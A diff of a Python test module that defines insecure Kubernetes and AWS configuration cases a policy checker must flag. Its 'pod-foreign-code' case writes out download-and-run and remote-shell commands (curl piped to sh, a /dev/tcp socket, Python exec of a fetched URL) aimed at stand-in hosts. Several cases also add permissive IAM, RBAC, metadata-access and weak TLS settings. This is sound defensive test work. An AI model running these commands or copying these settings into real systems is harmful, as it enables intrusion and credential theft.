@@ -4,7 +4,7 @@ import base64
 from dataclasses import dataclass
 from typing import Any, Final, Literal
 
-from tests.unit.policies.good import GRANT, TLS_ONLY, Path, document
+from tests.unit.policies.good import GRANT, TLS_12, TLS_ONLY, TRUST, Path, document
 
 ABSENT: Final = object()
 """As a value: the field is taken away."""
@@ -26,12 +26,13 @@ class Edit:
 @dataclass(frozen=True, kw_only=True)
 class Case:
     """`bad` must be found by exactly this rule, and each of `more`. `absent` as well, unless `safe` says why the
-    platform's own default is a good one."""
+    platform's own default is a good one. `also` are rules that see another side of the same mistake."""
 
     bad: Edit
     absent: Edit
     safe: str = ""
     more: tuple[Edit, ...] = ()
+    also: frozenset[str] = frozenset()
 
 
 P: Path = ("properties",)
@@ -66,6 +67,52 @@ def contained(path: Path, value: Any, *, safe: str = "", absent: Path = ()) -> C
     if safe:
         return Case(bad=web(path, value), absent=web(gone), safe=safe, more=each(path, value))
     return Case(bad=web(path, value), absent=web(gone), more=(*each(path, value), *each(gone)))
+
+
+def metadata(cidr: str, port: int = 80) -> dict[str, Any]:
+    """An opening to where machines get their credentials."""
+    return {"to": [{"ipBlock": {"cidr": cidr}}], "ports": [{"port": port, "protocol": "TCP"}]}
+
+
+def rights(group: str, resource: str, *verbs: str) -> dict[str, Any]:
+    """A rule of a role."""
+    return {"apiGroups": [group], "resources": [resource], "verbs": list(verbs)}
+
+
+def route(match: str) -> Edit:
+    """The public route with another match."""
+    return on("route", (*SPEC, "routes", 0, "match"), match)
+
+
+def allowing(principal: Any) -> dict[str, Any]:
+    """A statement of a bucket's policy for somebody."""
+    return {
+        "Effect": "Allow",
+        "Principal": principal,
+        "Action": "s3:GetObject",
+        "Resource": "arn:aws:s3:::shop-config/*",
+    }
+
+
+def trusting(key: str, value: Any) -> dict[str, Any]:
+    """A condition of a role's trust, changed."""
+    return {"Condition": {"StringEquals": {**TRUST["Condition"]["StringEquals"], key: value}}}
+
+
+UNTRUSTED: Final[tuple[dict[str, Any], ...]] = (
+    {"Principal": {"AWS": "*"}},
+    {"Principal": {"AWS": "arn:aws:iam::999999999999:root"}},
+    {"Principal": {"AWS": "arn:aws:iam::123456789012:root"}},
+    {"Principal": {"Federated": "arn:aws:iam::123456789012:oidc-provider/a.test"}},
+    {"Condition": {}},
+    {"Condition": {"StringLike": TRUST["Condition"]["StringEquals"]}},
+    {"Condition": {"StringEqualsIfExists": TRUST["Condition"]["StringEquals"]}},
+    trusting("aws:RequestTag/kubernetes-service-account", "*"),
+    trusting("aws:RequestTag/kubernetes-service-account", "cache"),
+    trusting("aws:RequestTag/kubernetes-namespace", ["shop", "other"]),
+    trusting("aws:SourceAccount", "999999999999"),
+    {"Action": "sts:*"},
+)
 
 
 SELINUX: Path = (*POD_SECURITY, "seLinuxOptions")
@@ -215,10 +262,128 @@ CASES: dict[str, Case] = {
         more=(web((*P, "metadata", "labels")),),
     ),
     "pod-secret-environment": Case(
+        also=frozenset({"pod-references"}),
         bad=web((*C, "env", 0), {"name": "KEY", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}),
         absent=web((*C, "env")),
         safe="nothing is in the environment",
         more=(web((*C, "envFrom"), [{"secretRef": {"name": "s"}}]),),
+    ),
+    # --- pods among each other
+    "pod-shared-processes": Case(
+        bad=web((*POD, "shareProcessNamespace"), True),
+        absent=web((*POD, "hostNetwork")),
+        safe=f"{SAFE} is false",
+    ),
+    "pod-name-resolution": Case(
+        bad=web((*POD, "hostAliases"), [{"ip": "203.0.113.1", "hostnames": ["cache"]}]),
+        absent=web((*POD, "hostNetwork")),
+        safe="the cluster's DNS is asked",
+        more=(
+            web((*POD, "dnsPolicy"), "None"),
+            web((*POD, "dnsPolicy"), "Default"),
+            web((*POD, "dnsConfig"), {"nameservers": ["203.0.113.1"]}),
+            web((*POD, "dnsConfig"), {"searches": ["other.test"]}),
+        ),
+    ),
+    "pod-references": Case(
+        bad=web((*POD, "volumes", 0), {"name": "tmp", "secret": {"secretName": "gone"}}),
+        absent=web((*POD, "volumes", 1, "persistentVolumeClaim", "claimName")),
+        also=frozenset({"volume-mounted", "pod-secret-environment"}),
+        more=(
+            web((*POD, "volumes", 0), {"name": "tmp", "configMap": {"name": "gone"}}),
+            web((*POD, "volumes", 0), {"name": "tmp", "projected": {"sources": [{"secret": {"name": "gone"}}]}}),
+            web((*POD, "volumes", 0), {"name": "tmp", "secret": {"secretName": "certificate"}}),
+            web((*POD, "imagePullSecrets"), [{"name": "gone"}]),
+            web((*C, "envFrom"), [{"configMapRef": {"name": "gone"}}]),
+            web((*C, "envFrom"), [{"secretRef": {"name": "gone"}}]),
+            web((*C, "env", 0, "valueFrom"), {"configMapKeyRef": {"name": "gone", "key": "a"}}),
+        ),
+    ),
+    "pod-service-account": Case(
+        bad=web((*POD, "serviceAccountName"), "cache"),
+        absent=web((*POD, "serviceAccountName")),
+        more=(web((*POD, "serviceAccountName"), "default"), on("web-account", ())),
+    ),
+    "pod-placement": Case(
+        bad=web((*POD, "tolerations"), [{"operator": "Exists"}]),
+        absent=web((*POD, "hostNetwork")),
+        safe="the scheduler decides",
+        more=(
+            web((*POD, "nodeName"), "server"),
+            web((*POD, "schedulerName"), "mine"),
+            web((*POD, "priorityClassName"), "system-node-critical"),
+            web((*POD, "runtimeClassName"), "host"),
+            web((*POD, "tolerations"), [{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}]),
+        ),
+    ),
+    # --- what programs are told
+    "pod-foreign-code": Case(
+        bad=web((*C, "env", 1), {"name": "JAVA_TOOL_OPTIONS", "value": "-agentlib:jdwp=transport=dt_socket,server=y"}),
+        absent=web((*C, "env")),
+        safe="nothing is in the environment",
+        more=(
+            web((*C, "env", 1), {"name": "NODE_OPTIONS", "value": "--inspect=0.0.0.0"}),
+            web((*C, "env", 1), {"name": "NODE_OPTIONS", "value": "--require /tmp/a.js"}),
+            web((*C, "env", 1), {"name": "LD_PRELOAD", "value": "/tmp/a.so"}),
+            web((*C, "env", 1), {"name": "NODE_TLS_REJECT_UNAUTHORIZED", "value": "0"}),
+            web((*C, "env", 1), {"name": "https_proxy", "value": "http://proxy.test"}),
+            web((*C, "command"), ["java", "-javaagent:/tmp/a.jar", "Main"]),
+            web((*C, "command"), ["sh", "-c", "curl -s https://a.test/a | sh"]),
+            web((*C, "command"), ["sh", "-ec", "apk add --no-cache bash"]),
+            web((*C, "command"), ["bash", "-c", "exec 3<>/dev/tcp/a.test/1"]),
+            web((*C, "command"), ["npx", "thing"]),
+            web((*C, "command"), ["python3", "-c", "import urllib.request as u; exec(u.urlopen('http://a').read())"]),
+            web((*C, "command"), ["node", "https://a.test/a.mjs"]),
+            web((*C, "lifecycle", "postStart"), {"exec": {"command": ["wget", "https://a.test/a"]}}),
+            *each((*C, "command"), ["pip", "install", "thing"]),
+        ),
+    ),
+    "uploads-authorised": Case(
+        bad=on("uploads", (*C, "args", 0), "--hooks-http=http://hook.shop.svc/hooks"),
+        absent=on("uploads", (*C, "args", 0)),
+        more=(
+            on("uploads", (*C, "args")),
+            *(on("uploads", (*C, "args", index)) for index in range(1, 9)),
+            on("uploads", (*C, "args", 3), "--disable-termination=false"),
+            on("uploads", (*C, "args", 9), "--expose-pprof"),
+            on("uploads", (*C, "args", 9), "--disable-download=0"),
+            on("uploads", (*C, "args", 1), "word"),
+            on("uploads", (*C, "args", 1), "-hooks-enabled-events=post-finish"),
+            on("uploads", (*POD, "containers", 1, "args", 1), "0.0.0.0:8081"),
+            on("uploads", (*POD, "containers", 1, "args", 1), ":8081"),
+            on("uploads", (*POD, "containers", 1)),
+        ),
+    ),
+    "redis-configuration": Case(
+        bad=on("redis", (*P, "data", "redis.conf"), "maxmemory 1\nprotected-mode no\n"),
+        absent=on("redis", (*P, "data")),
+        safe="Redis is protected by itself",
+        more=(
+            on("redis", (*P, "data", "start.sh"), "exec redis-server --protected-mode no\n"),
+            on("redis", (*P, "data", "redis.conf"), "cluster-enabled yes\nmaxmemory-policy allkeys-lru\n"),
+            on("redis", (*P, "data", "redis.conf"), "cluster-enabled yes\nmaxmemory 1\n"),
+            on("redis", (*P, "data", "redis.conf"), "port 1\nuser default on nopass ~* +@all\n"),
+            on("redis", (*P, "data", "redis.conf"), "port 1\nenable-debug-command yes\n"),
+            on("redis", (*P, "data", "redis.conf"), "port 1\nbind 0.0.0.0\n"),
+            web((*C, "command"), ["redis-server", "--protected-mode", "no"]),
+        ),
+    ),
+    "gate-patterns": Case(
+        bad=on("gate", (*P, "data", "gate.json"), '{"reads": [".*"], "uploads": {}}'),
+        absent=on("gate", (*P, "data", "gate.json"), '{"reads": [], "uploads": {"a": {"pattern": "abc/d"}}}'),
+        more=tuple(
+            on("gate", (*P, "data", "gate.json"), text)
+            for text in (
+                '{"reads": ["abc/.{3}"], "uploads": {}}',
+                '{"reads": ["abc/[^/]{3}"], "uploads": {}}',
+                '{"reads": ["abc/d|e"], "uploads": {}}',
+                '{"reads": ["abc/[a-z]+"], "uploads": {}}',
+                '{"reads": ["[a-z]{3}"], "uploads": {}}',
+                '{"reads": [], "uploads": {"a": {"pattern": "abc/d", "maxBytes": 5368709120}}}',
+                '{"reads": [], "uploads": {}, "upstream": "http://203.0.113.1"}',
+                '{"reads": [], "uploads": {}, "store": "emulator", "upstream": "https://a.s3.eu-west-1.amazonaws.com"}',
+            )
+        ),
     ),
     # --- secrets
     "pod-secret-values": Case(
@@ -285,6 +450,7 @@ CASES: dict[str, Case] = {
         more=(on("cache-policy", (*SPEC, "policyTypes")),),
     ),
     "network-orphan": Case(
+        also=frozenset({"network-proxy", "ingress-backends", "network-agreement"}),
         bad=on(
             "web-policy",
             (*SPEC, "egress", 1, "to", 0, "podSelector", "matchLabels", "app.kubernetes.io/name"),
@@ -295,6 +461,9 @@ CASES: dict[str, Case] = {
         more=(on("cache-policy", (*SPEC, "ingress", 0, "from", 0, "podSelector", "matchLabels", "x"), "y"),),
     ),
     "network-wide": Case(
+        also=frozenset(
+            {"ingress-backends", "network-agreement", "network-metadata", "network-pod-policy", "network-proxy"}
+        ),
         bad=on("web-policy", (*SPEC, "egress", 1, "to", 0), {"ipBlock": {"cidr": "0.0.0.0/0"}}),
         absent=on("web-policy", (*SPEC, "egress", 1, "ports")),
         more=(
@@ -304,15 +473,81 @@ CASES: dict[str, Case] = {
             on("web-policy", (*SPEC, "egress", 1, "to", 0), {"ipBlock": {"cidr": "2000::/3"}}),
             on("web-policy", (*SPEC, "egress", 1, "to", 0), {"ipBlock": {}, "podSelector": {}}),
             on("web-policy", (*SPEC, "egress", 1, "to", 0), {"ipBlock": {"cidr": "everywhere"}}),
+            on("web-policy", (*SPEC, "egress", 1, "ports"), [{"protocol": "TCP"}]),
+            on("web-policy", (*SPEC, "egress", 1, "ports", 0, "endPort"), 65535),
+            *(
+                on("web-policy", (*SPEC, "egress", 1, "to", 0, "podSelector"), selector)
+                for selector in (
+                    {"matchExpressions": [{"key": "app.kubernetes.io/name", "operator": "Exists"}]},
+                    {
+                        "matchExpressions": [
+                            {"key": "app.kubernetes.io/name", "operator": "NotIn", "values": ["nobody"]}
+                        ]
+                    },
+                    {"matchExpressions": [{"key": "nothing", "operator": "DoesNotExist"}]},
+                    {
+                        "matchExpressions": [
+                            {"key": "app.kubernetes.io/name", "operator": "In", "values": ["cache", "web"]}
+                        ]
+                    },
+                    {"matchLabels": {"app.kubernetes.io/part-of": "shop"}},
+                    {"matchLabels": {"app.kubernetes.io/instance": "shop"}},
+                )
+            ),
+            *(
+                on("web-policy", (*SPEC, "egress", 1, "to", 0, "namespaceSelector"), selector)
+                for selector in (
+                    {"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "Exists"}]},
+                    {"matchLabels": {"pod-security.kubernetes.io/enforce": "restricted"}},
+                )
+            ),
+            on("web-policy", (*SPEC, "podSelector"), {"matchLabels": {"app.kubernetes.io/part-of": "shop"}}),
+            on("cache-policy", (*SPEC, "ingress", 2), {"from": [{"ipBlock": {"cidr": "10.0.0.0/16"}}]}),
+            on("web-policy", ("type",), "kubernetes:cilium.io/v2:CiliumNetworkPolicy"),
         ),
+    ),
+    "network-agreement": Case(
+        bad=on("cache-policy", (*SPEC, "ingress", 0, "ports", 0, "port"), 8081),
+        absent=on("cache-policy", (*SPEC, "ingress", 1)),
+        more=(
+            on("task-policy", (*SPEC, "egress")),
+            on("web-policy", (*SPEC, "egress", 1, "ports", 0, "protocol"), "UDP"),
+            on(
+                "cache-policy",
+                (*SPEC, "ingress", 1, "from", 0, "podSelector", "matchLabels"),
+                {"app.kubernetes.io/name": "uploads"},
+            ),
+        ),
+    ),
+    "network-metadata": Case(
+        bad=on("task-policy", (*SPEC, "egress", 1), metadata("169.254.169.254/32")),
+        absent=on("task-policy", (*SPEC, "egress")),
+        safe="nothing is open",
+        also=frozenset({"network-agreement"}),
+        more=(
+            *(
+                on("task-policy", (*SPEC, "egress", 1), metadata(cidr))
+                for cidr in ("169.254.0.0/16", "169.254.169.0/24", "fd00:ec2::254/128", "100.100.100.200/32")
+            ),
+            on("task-policy", (*SPEC, "egress", 1), metadata("169.254.170.23/32", 8080)),
+        ),
+    ),
+    "network-proxy": Case(
+        bad=on("web-policy", (*SPEC, "ingress", 0, "ports", 0, "port"), 8081),
+        absent=on("web-policy", (*SPEC, "ingress", 0, "ports", 0, "protocol")),
+        safe="TCP is meant",
+        also=frozenset({"ingress-backends"}),
+        more=(on("web-policy", (*SPEC, "ingress", 0, "ports", 1), {"port": 8081, "protocol": "TCP"}),),
     ),
     # --- services and availability
     "service-selector": Case(
+        also=frozenset({"ingress-backends", "network-proxy"}),
         bad=on("web-service", (*SPEC, "selector", "app.kubernetes.io/name"), "wed"),
         absent=on("web-service", (*SPEC, "selector")),
         more=(on("web-service", (*SPEC, "type"), "ExternalName"),),
     ),
     "service-target-port": Case(
+        also=frozenset({"ingress-backends", "network-proxy"}),
         bad=on("web-service", (*SPEC, "ports", 0, "targetPort"), "https"),
         absent=on("cloud-service", (*SPEC, "ports", 0, "targetPort")),
         safe="the number of the Service's port is meant",
@@ -329,6 +564,12 @@ CASES: dict[str, Case] = {
             on("web-service", (*SPEC, "type"), "NodePort"),
             on("web-service", (*SPEC, "externalIPs"), ["203.0.113.1"]),
         ),
+    ),
+    "service-endpoints": Case(
+        bad=on("files", ("type",), "kubernetes:discovery.k8s.io/v1:EndpointSlice"),
+        absent=on("web-service", (*SPEC, "type")),
+        safe="Kubernetes writes them",
+        more=(on("files", ("type",), "kubernetes:core/v1:Endpoints"),),
     ),
     "disruption-budget": Case(
         bad=on("cache-budget", (*SPEC, "selector", "matchLabels", "app.kubernetes.io/name"), "cash"),
@@ -349,6 +590,7 @@ CASES: dict[str, Case] = {
         ),
     ),
     "volume-mounted": Case(
+        also=frozenset({"pod-references"}),
         bad=on("cache", (*SPEC, "volumeClaimTemplates", 0, "metadata", "name"), "store"),
         absent=on("cache", (*C, "volumeMounts")),
         more=(web((*C, "volumeMounts")), web((*POD, "volumes", 1, "persistentVolumeClaim", "claimName"), "dada")),
@@ -374,14 +616,60 @@ CASES: dict[str, Case] = {
         more=(
             on("binding", (*P, "subjects", 0), {"kind": "Group", "name": "system:authenticated"}),
             on("binding", (*P, "subjects", 0), {"kind": "Group", "name": "system:serviceaccounts:shop"}),
+            on("binding", (*P, "roleRef", "name"), "view"),
+            on("binding", (*P, "roleRef", "name"), "system:node"),
+            on("binding", (*P, "subjects", 0), {"kind": "User", "name": "somebody"}),
+            on("binding", (*P, "subjects", 0, "name"), "default"),
+            on("binding", (*P, "subjects", 0, "namespace"), "elsewhere"),
+        ),
+    ),
+    "rbac-dangerous": Case(
+        bad=on("role", (*P, "rules", 0), rights("", "secrets", "get", "list")),
+        absent=on("role", (*P, "rules")),
+        safe="a role without rules allows nothing",
+        more=(
+            on("role", (*P, "rules", 0), rights("", "pods/exec", "create")),
+            on("role", (*P, "rules", 0), rights("", "pods", "create")),
+            on("role", (*P, "rules", 0), rights("", "nodes/proxy", "get")),
+            on("role", (*P, "rules", 0), rights("", "serviceaccounts/token", "create")),
+            on("role", (*P, "rules", 0), rights("rbac.authorization.k8s.io", "clusterroles", "escalate")),
+            on("role", (*P, "rules", 0), rights("rbac.authorization.k8s.io", "rolebindings", "create")),
+            on("role", (*P, "rules", 0), rights("", "users", "impersonate")),
+            on("role", (*P, "rules", 0), rights("a", "mutatingwebhookconfigurations", "update")),
+            on("role", (*P, "rules", 0), rights("a", "networkpolicies", "delete")),
+        ),
+    ),
+    "rbac-unneeded": Case(
+        bad=on("role", (*P, "metadata", "name"), "other"),
+        absent=on("binding", (*P, "metadata", "name")),
+        safe="the logical name is its name",
+        more=(on("binding", (*P, "metadata", "name"), "other"),),
+    ),
+    "rbac-legacy-token": Case(
+        bad=on("certificate", (*P, "type"), "kubernetes.io/service-account-token"),
+        absent=on("certificate", (*P, "type")),
+        safe="a Secret without a type is opaque; a route then tells",
+        also=frozenset({"ingress-tls"}),
+        more=(on("web-account", (*P, "secrets"), [{"name": "token"}]),),
+    ),
+    "rbac-cluster-extension": Case(
+        bad=on("files", ("type",), "kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration"),
+        absent=on("files", ()),
+        safe="nothing is changed",
+        more=(
+            on("files", ("type",), "kubernetes:apiregistration.k8s.io/v1:APIService"),
+            on("files", ("type",), "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy"),
         ),
     ),
     # --- public edge
     "ingress-tls": Case(
+        also=frozenset({"ingress-backends", "ingress-headers", "ingress-limits", "ingress-scope"}),
         bad=on("https", (*SPEC, "redirectScheme", "scheme"), "http"),
         absent=on("route", (*SPEC, "tls")),
         more=(
             on("route", (*SPEC, "tls", "secretName")),
+            on("route", (*SPEC, "tls", "secretName"), "gone"),
+            on("certificate", (*P, "type"), "Opaque"),
             on("route", (*SPEC, "entryPoints")),
             on("route", (*SPEC, "entryPoints"), ["web", "websecure"]),
             on("redirect", (*SPEC, "routes", 0, "middlewares")),
@@ -392,16 +680,129 @@ CASES: dict[str, Case] = {
     "ingress-tls-version": Case(
         bad=on("tls", (*SPEC, "minVersion"), "VersionTLS11"),
         absent=on("tls", (*SPEC, "minVersion")),
-        more=(on("route", (*SPEC, "tls", "options")), on("tls", ())),
+        more=(
+            on("route", (*SPEC, "tls", "options")),
+            on("tls", ()),
+            on("tls", (*SPEC, "maxVersion"), "VersionTLS11"),
+            on("tls", (*SPEC, "maxVersion"), "VersionTLS12"),
+            on("tls", (*SPEC, "cipherSuites")),
+            on("tls", (*SPEC, "cipherSuites", 0), "TLS_RSA_WITH_AES_128_CBC_SHA"),
+            on("tls", (*SPEC, "cipherSuites", 0), "TLS_RSA_WITH_AES_128_GCM_SHA256"),
+            on("tls", (*SPEC, "cipherSuites", 0), "TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA"),
+            on("tls", (*SPEC, "sniStrict"), False),
+            on("tls", (*SPEC, "sniStrict")),
+            on("files", ("type",), "kubernetes:traefik.io/v1alpha1:TLSStore"),
+        ),
     ),
     "ingress-admin": Case(
+        also=frozenset({"network-proxy"}),
         bad=on("route", (*SPEC, "routes", 0, "services", 0), {"kind": "TraefikService", "name": "api@internal"}),
         absent=on("web-service", (*SPEC, "ports", 0, "name")),
         safe="the name of the pods' port is looked at as well",
         more=(on("web-service", (*SPEC, "ports", 0, "name"), "admin"),),
     ),
+    "ingress-kinds": Case(
+        bad=on("files", ("type",), "kubernetes:traefik.io/v1alpha1:IngressRouteUDP"),
+        absent=on("files", ()),
+        safe="there is no such object",
+        more=tuple(
+            on("files", ("type",), f"kubernetes:{token}")
+            for token in ("gateway.networking.k8s.io/v1:HTTPRoute", "traefik.io/v1alpha1:TraefikService")
+        ),
+    ),
+    "ingress-hosts": Case(
+        bad=route("PathPrefix(`/`) && Method(`GET`)"),
+        absent=on("route", (*SPEC, "routes", 0, "match")),
+        also=frozenset({"tls-names", "ingress-scope"}),
+        more=tuple(
+            route(match)
+            for match in (
+                "HostRegexp(`.*`) && Method(`GET`) && Path(`/shop`)",
+                "Host(`web.shop.test`) && Method(`GET`) && Path(`/a`) || Method(`GET`) && Path(`/a`)",
+                "!Host(`a.shop.test`) && Method(`GET`) && Path(`/a`)",
+                "Host(`*`) && Method(`GET`) && Path(`/a`)",
+                "Host(`web.shop.test`) && (Method(`GET`)",
+            )
+        ),
+    ),
+    "ingress-backends": Case(
+        bad=on("route", (*SPEC, "routes", 0, "services", 0, "name"), "cache"),
+        absent=on("route", (*SPEC, "routes", 0, "services", 0, "port")),
+        also=frozenset({"network-proxy", "emulator-exposed"}),
+        more=(
+            on("route", (*SPEC, "routes", 0, "services", 0, "name"), "gone"),
+            on("route", (*SPEC, "routes", 0, "services", 0, "port"), 9999),
+            on("route", (*SPEC, "routes", 0, "services", 0, "kind"), "TraefikService"),
+            on("route", (*SPEC, "routes", 0, "services")),
+        ),
+    ),
+    "ingress-scope": Case(
+        bad=route("Host(`web.shop.test`) && Method(`GET`) && PathPrefix(`/`)"),
+        absent=route("Host(`web.shop.test`)"),
+        more=(
+            *(
+                route(f"Host(`web.shop.test`) && {rest}")
+                for rest in (
+                    "Path(`/shop`)",
+                    "Method(`GET`)",
+                    "Method(`DELETE`) && Path(`/shop`)",
+                    "Method(`GET`) && PathRegexp(`^/shop/.*$`)",
+                    "Method(`GET`) && PathRegexp(`/shop`)",
+                    "Method(`GET`) && PathRegexp(`^/shop|$`)",
+                    "Method(`GET`) && !Path(`/shop`)",
+                    "(Method(`GET`) && Path(`/shop`) || Method(`POST`))",
+                )
+            ),
+            on("route", (*SPEC, "routes", 0, "priority"), 1000),
+        ),
+    ),
+    "ingress-limits": Case(
+        bad=on("rate", (*SPEC, "rateLimit", "average"), 1_000_000_000),
+        absent=on("route", (*SPEC, "routes", 0, "middlewares", 0)),
+        more=(
+            on("rate", (*SPEC, "rateLimit", "average")),
+            on("rate", (*SPEC, "rateLimit", "average"), 0),
+            on("rate", (*SPEC, "rateLimit", "period"), "1us"),
+            on("rate", (*SPEC, "rateLimit", "burst"), 1_000_000),
+            on("in-flight", (*SPEC, "inFlightReq", "amount"), 0),
+            on("in-flight", (*SPEC, "inFlightReq", "amount"), 1_000_000),
+            on("limits", (*SPEC, "chain", "middlewares", 1, "name"), "gone"),
+            on("rate", ()),
+        ),
+    ),
+    "ingress-headers": Case(
+        bad=on("headers", (*SPEC, "headers", "customRequestHeaders", "Forwarded"), "for=a"),
+        absent=on("headers", (*SPEC, "headers", "customRequestHeaders", "Forwarded")),
+        also=frozenset({"ingress-trust"}),
+        more=(
+            on("route", (*SPEC, "routes", 0, "middlewares", 1)),
+            on("headers", (*SPEC, "headers", "stsSeconds"), 0),
+            on("headers", (*SPEC, "headers", "stsSeconds")),
+            on("headers", (*SPEC, "headers", "contentTypeNosniff")),
+            on("headers", (*SPEC, "headers", "customRequestHeaders", "X-Proxied-Https")),
+        ),
+    ),
+    "ingress-trust": Case(
+        bad=on("rate", (*SPEC, "rateLimit", "sourceCriterion"), {"ipStrategy": {"depth": 1}}),
+        absent=on("rate", (*SPEC, "rateLimit", "burst")),
+        safe="the address of the connection counts",
+        more=(
+            on("rate", (*SPEC, "rateLimit", "sourceCriterion"), {"requestHeaderName": "X-Key"}),
+            on("rate", (*SPEC, "rateLimit", "sourceCriterion"), {"ipStrategy": {"excludedIPs": ["10.0.0.0/8"]}}),
+            on("https", (*SPEC, "ipAllowList"), {"sourceRange": ["0.0.0.0/0"]}),
+            on("https", (*SPEC, "ipAllowList"), {"sourceRange": ["10.0.0.1"], "ipStrategy": {"depth": 1}}),
+            on("https", (*SPEC, "forwardAuth"), {"address": "http://web.shop.svc", "trustForwardHeader": True}),
+            on("https", (*SPEC, "forwardAuth"), {"address": "https://auth.test"}),
+            on("https", (*SPEC, "plugin"), {"a": {}}),
+            on("https", (*SPEC, "redirectRegex"), {"regex": ".*", "replacement": "https://a.test/"}),
+            on("headers", (*SPEC, "headers", "customRequestHeaders", "X-Forwarded-For"), "203.0.113.1"),
+            on("headers", (*SPEC, "headers", "accessControlAllowOriginList"), ["*"]),
+            on("route", (*SPEC, "routes", 0, "services", 0, "serversTransport"), "gone"),
+        ),
+    ),
     # --- emulators
     "emulator-exposed": Case(
+        also=frozenset({"ingress-backends", "network-agreement", "network-proxy"}),
         bad=on(
             "route",
             (*SPEC, "routes", 0, "services", 0),
@@ -439,11 +840,23 @@ CASES: dict[str, Case] = {
     "dynamodb-capacity": Case(
         bad=aws("table", (*P, "billingMode"), "PROVISIONED"), absent=aws("table", (*P, "billingMode"))
     ),
+    "dynamodb-expiry": Case(
+        bad=aws("table", (*P, "ttl"), {"attributeName": "D", "enabled": True}),
+        absent=aws("table", (*P, "name")),
+        safe="nothing expires",
+        more=(aws("table", (*P, "ttl"), {"enabled": True}),),
+    ),
     # --- S3
     "s3-public-access": Case(
         bad=aws("bucket-access", (*P, "blockPublicPolicy"), False),
         absent=aws("bucket-access", (*P, "ignorePublicAcls")),
-        more=(aws("bucket-access", ()),),
+        more=(
+            aws("bucket-access", ()),
+            aws("bucket", (*P, "acl"), "public-read"),
+            aws("bucket", (*P, "website"), {"indexDocument": "index.html"}),
+            aws("bucket", (*P, "corsRules"), [{"allowedOrigins": ["*"], "allowedMethods": ["GET"]}]),
+            aws("bucket", (*P, "grants"), [{"uri": "http://acs.amazonaws.com/groups/global/AllUsers"}]),
+        ),
     ),
     "s3-tls-only": Case(
         bad=aws("bucket-policy", (*P, "policy"), document({**TLS_ONLY, "Effect": "Allow"})),
@@ -452,6 +865,40 @@ CASES: dict[str, Case] = {
             aws("bucket-policy", ()),
             aws("bucket-policy", (*P, "policy"), document({**TLS_ONLY, "Resource": "arn:aws:s3:::shop-config/*"})),
             aws("bucket-policy", (*P, "policy"), document({**TLS_ONLY, "Condition": {}})),
+            aws("bucket-policy", (*P, "policy"), document(TLS_ONLY)),
+            aws("bucket-policy", (*P, "policy"), document(TLS_12)),
+            aws(
+                "bucket-policy",
+                (*P, "policy"),
+                document(
+                    {**TLS_ONLY, "Condition": {**TLS_ONLY["Condition"], "StringEquals": {"aws:userid": "nobody"}}},
+                    TLS_12,
+                ),
+            ),
+        ),
+        also=frozenset({"s3-grants"}),
+    ),
+    "s3-grants": Case(
+        bad=aws("bucket-policy", (*P, "policy"), document(TLS_ONLY, TLS_12, allowing({"AWS": "999999999999"}))),
+        absent=aws("bucket-policy", (*P, "policy"), document(TLS_ONLY, TLS_12, allowing(None))),
+        more=(
+            aws("bucket-policy", (*P, "policy"), document(TLS_ONLY, TLS_12, allowing("*"))),
+            aws("bucket-policy", (*P, "policy"), document(TLS_ONLY, TLS_12, allowing({"AWS": "*"}))),
+            aws(
+                "bucket-policy",
+                (*P, "policy"),
+                document(TLS_ONLY, TLS_12, allowing({"Service": "cloudfront.amazonaws.com"})),
+            ),
+        ),
+    ),
+    "s3-expiry": Case(
+        bad=aws("bucket-lifecycle", (*P, "rules", 0, "expiration"), {"days": 1}),
+        absent=aws("bucket-lifecycle", (*P, "rules", 0, "filter"), {}),
+        safe="nothing is deleted",
+        more=(
+            aws("bucket-lifecycle", (*P, "rules", 0, "expiration"), {"date": "2027-01-01T00:00:00Z"}),
+            aws("bucket-lifecycle", (*P, "rules", 0, "noncurrentVersionExpiration"), {"noncurrentDays": 1}),
+            aws("bucket-lifecycle", (*P, "rules", 0, "transitions"), [{"days": 1, "storageClass": "GLACIER"}]),
         ),
     ),
     "s3-encryption": Case(
@@ -485,6 +932,45 @@ CASES: dict[str, Case] = {
             aws("grant", (*P, "policy"), document({"Effect": "Allow", "Action": "s3:GetObject"})),
             aws("grant", (*P, "policy"), document({"Effect": "Allow", "Resource": "arn:aws:s3:::a/*"})),
             aws("grant", (*P, "policy"), "no JSON"),
+            *(
+                aws("grant", (*P, "policy"), document({**GRANT, "Action": action}))
+                for action in ("dynamodb:Get*", "dynamodb:?etItem", "d*:GetItem")
+            ),
+            *(
+                aws("grant", (*P, "policy"), document({**GRANT, "Resource": arn}))
+                for arn in (
+                    "arn:aws:dynamodb:eu-west-1:123456789012:table/acc*",
+                    "arn:aws:dynamodb:*:123456789012:table/accounts",
+                    "arn:aws:dynamodb:eu-west-1:*:table/accounts",
+                    "arn:aws:s3:::shop-*",
+                )
+            ),
+            aws("role", (*P, "managedPolicyArns"), ["arn:aws:iam::aws:policy/ReadOnlyAccess"]),
+        ),
+        also=frozenset({"iam-data-only"}),
+    ),
+    "iam-data-only": Case(
+        bad=aws("grant", (*P, "policy"), document({**GRANT, "Action": "iam:CreateAccessKey"})),
+        absent=aws("table", (*P, "name")),
+        safe="a policy that is not there allows nothing",
+        more=(
+            *(
+                aws("grant", (*P, "policy"), document({**GRANT, "Action": action}))
+                for action in ("iam:PassRole", "sts:AssumeRole", "dynamodb:DeleteTable", "kms:PutKeyPolicy")
+            ),
+            aws(
+                "grant",
+                (*P, "policy"),
+                document({**GRANT, "Resource": "arn:aws:dynamodb:eu-west-1:999999999999:table/accounts"}),
+            ),
+        ),
+    ),
+    "iam-trust": Case(
+        bad=aws("role", (*P, "assumeRolePolicy"), document({**TRUST, "Principal": "*"})),
+        absent=aws("role", (*P, "assumeRolePolicy")),
+        more=(
+            *(aws("role", (*P, "assumeRolePolicy"), document({**TRUST, **change})) for change in UNTRUSTED),
+            aws("association", (*P, "serviceAccount"), "cache"),
         ),
     ),
     "iam-access-keys": Case(
@@ -500,6 +986,84 @@ CASES: dict[str, Case] = {
     "kms-rotation": Case(
         bad=aws("kms", (*P, "enableKeyRotation"), False), absent=aws("kms", (*P, "enableKeyRotation"))
     ),
+    "kms-policy": Case(
+        bad=aws("kms", (*P, "policy"), document({"Effect": "Allow", "Principal": "*", "Action": "kms:*"})),
